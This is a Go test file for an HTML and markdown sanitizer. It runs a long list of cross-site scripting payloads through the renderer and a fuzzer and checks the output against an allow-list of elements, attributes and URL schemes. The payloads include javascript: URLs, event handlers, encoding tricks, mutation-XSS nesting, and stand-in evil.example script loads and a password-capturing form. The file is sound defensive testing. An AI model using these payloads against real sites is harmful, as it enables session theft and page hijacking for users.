package text

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile are sources that try to make a page do something. Each is tried as
// it stands, in a paragraph, in a table, and with images kept.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script>`,
	"<script\x00>alert(1)</script>",
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)//`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml;base64,AA#x"></use></svg>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)"/>`,
	"<img src=`x` onerror=alert(1)>",
	`<img src=javascript:alert(1)>`,
	`<img """><script>alert(1)</script>">`,
	`<img/src/onerror=alert(1)>`,
	`<img src=x:x onerror=alert(1)//`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`![x](javascript:alert(1))`,
	`![x](https://a.fr/"onerror="alert(1))`,
	`![x" onerror="alert(1)](https://a.fr/x)`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](java&#115;cript:alert(1))`,
	`[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))`,
	"[x](java\tscript:alert(1))",
	"[x](<java\nscript:alert(1)>)",
	`[x](\x01javascript:alert(1))`,
	`[x]( javascript:alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](file:///etc/passwd)`,
	`[x](blob:https://a.fr/x)`,
	"[x][1]\n\n[1]: javascript:alert(1)",
	`[x](https://a.fr "onclick=alert(1) x=")`,
	`[x](https://a.fr '"><img src=x onerror=alert(1)>')`,
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="jav&Tab;ascript:alert(1)">x</a>`,
	`<a href=javascript&colon;alert&lpar;1&rpar;>x</a>`,
	`<a href="//evil.example" target=_blank rel=opener ping=https://evil.example>x</a>`,
	`<a onmouseover=alert(1)>x</a>`,
	`<a href='https://a.fr' style='position:fixed;inset:0'>x</a>`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<p style="background:url(https://evil.example)">x</p>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src=javascript:alert(1)>`,
	`<form action=https://evil.example><input name=password><button>x</button></form>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)><option>x`,
	`<textarea autofocus onfocus=alert(1)>x</textarea>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<base href=https://evil.example/>`,
	`<body onload=alert(1)>`,
	`<html manifest=x><head><title>x</title></head>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<isindex action=javascript:alert(1) type=image>`,
	`<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x`,
	`<div id=content class=top name=main tabindex=1 contenteditable>x</div>`,
	`<img name=cookie id=getElementById>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
	`<xmp><p title="</xmp><svg/onload=alert(1)>">`,
	`<title><a href="</title><img src=x onerror=alert(1)>">`,
	`<textarea><a title="</textarea><img src=x onerror=alert(1)>">`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<frameset onload=alert(1)><frame src=x>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE html [<!ENTITY x "<script>">]>&x;`,
	`<a title="` + "`" + `><script>alert(1)</script>` + "`" + `">x</a>`,
	"`<script>`<script>alert(1)</script>",
	"```html\"onclick=alert(1)\n<script>alert(1)</script>\n```",
	"```\n</code></pre><script>alert(1)</script>",
	"| a |\n|---|\n| <script>alert(1)</script> |\n| <img src=x onerror=alert(1)> |",
	"# <script>alert(1)</script>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<p>&lt;img src=x onerror=alert(1)&gt;</p>`,
	"\u2028<img src=x onerror=alert(1)>",
	`<ımg src=x onerror=alert(1)>`,
	`＜script＞alert(1)＜/script＞`,
	`<a/href="https://a.fr"onclick="alert(1)">x`,
	`<p/onclick=alert(1)/>x`,
	`<custom-element onclick=alert(1)>x</custom-element><gr-map tiles=https://evil.example></gr-map>`,
	`<a href="https://a.fr"><table><tr><td><a href="javascript:alert(1)">x</a></table></a>`,
	`<abbr title="&quot;><script>alert(1)</script>">x</abbr>`,
	`<td align="left onclick=x" colspan="1 onclick=x">x`,
}

// allowed are the attributes of every element that HTML writes.
var allowed = map[string][]string{
	"a": {"href", "title", "rel"}, "abbr": {"title"}, "ol": {"start"},
	"td": {"align", "colspan", "rowspan"}, "th": {"align", "colspan", "rowspan"},
	"div": {"class", "tabindex"}, "pre": {"tabindex"},
}

func init() {
	for name := range strings.FieldsSeq(`p br hr h2 h3 h4 h5 h6 ul li dl dt dd blockquote pre details summary
		figure figcaption code em strong b i u s del ins sub sup small mark kbd samp var q cite
		table caption thead tbody tfoot tr colgroup`) {
		if allowed[name] == nil {
			allowed[name] = []string{}
		}
	}
}

// checkSafe fails on anything in HTML that is not allowed, and on HTML that is
// not what it is when it is read again.
func checkSafe(t *testing.T, source, rendered string, images bool) {
	t.Helper()
	root, ok := parseFragment([]byte(rendered))
	if !ok || renderFragment(root) != rendered {
		t.Fatalf("%q is not well formed: %q", source, rendered)
	}
	for n := range root.Descendants() {
		switch n.Type {
		case html.TextNode:
		case html.ElementNode:
			checkElement(t, n, images)
		default:
			t.Errorf("%q gives a node of type %d: %q", source, n.Type, rendered)
		}
	}
	if t.Failed() {
		t.Fatalf("%q gives %q", source, rendered)
	}
}

func checkElement(t *testing.T, n *html.Node, images bool) {
	t.Helper()
	names, known := allowed[n.Data]
	if n.Data == "img" && images {
		names, known = []string{"src", "alt", "title", "loading"}, true
	}
	if !known || n.Namespace != "" {
		t.Errorf("the element %s %s is not allowed", n.Namespace, n.Data)
	}
	for _, a := range n.Attr {
		if !slices.Contains(names, a.Key) || a.Namespace != "" {
			t.Errorf("the attribute %s of %s is not allowed", a.Key, n.Data)
		}
		switch a.Key {
		case "href", "src":
			address, err := url.Parse(a.Val)
			if err != nil || !slices.Contains([]string{"", "http", "https", "mailto", "tel", "ftp"}, address.Scheme) {
				t.Errorf("the address %q is not allowed", a.Val)
			}
		case "rel":
			if a != foreign {
				t.Errorf("rel is %q", a.Val)
			}
		case "class":
			if a.Val != "table-wrap" || n.FirstChild == nil || n.FirstChild.Data != "table" {
				t.Errorf("the class %q is not ours", a.Val)
			}
		}
	}
	if n.Data == "a" && attribute(n, "rel") != foreign.Val {
		t.Error("a link lacks its rel")
	}
}

func TestHostileSourcesAreHarmless(t *testing.T) {
	for _, source := range hostile {
		for _, around := range []string{"%", "a % b", "<table><tr><td>%", "> - %", "<p>%</p>", "<div>\n\n%\n\n</div>"} {
			whole := strings.Replace(around, "%", source, 1)
			for _, images := range []bool{false, true} {
				got, _ := HTML(whole, Rendering{Images: images})
				checkSafe(t, whole, got, images)
			}
		}
	}
}

// What scripts and styles say is no text.
func TestScriptsAndStylesAreNotShown(t *testing.T) {
	for _, source := range []string{
		"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<svg><script>alert(1)</script></svg>",
		"<style>body{color:red}</style>", "<template>a</template>", "<!-- a -->",
	} {
		if got, _ := HTML(source, Rendering{}); strings.TrimSpace(got) != "" {
			t.Errorf("%q leaves %q", source, got)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, source := range hostile {
		f.Add(source, false)
	}
	f.Fuzz(func(t *testing.T, source string, images bool) {
		got, _ := HTML(source, Rendering{Images: images, Breaks: images})
		checkSafe(t, source, got, images)
	})
}
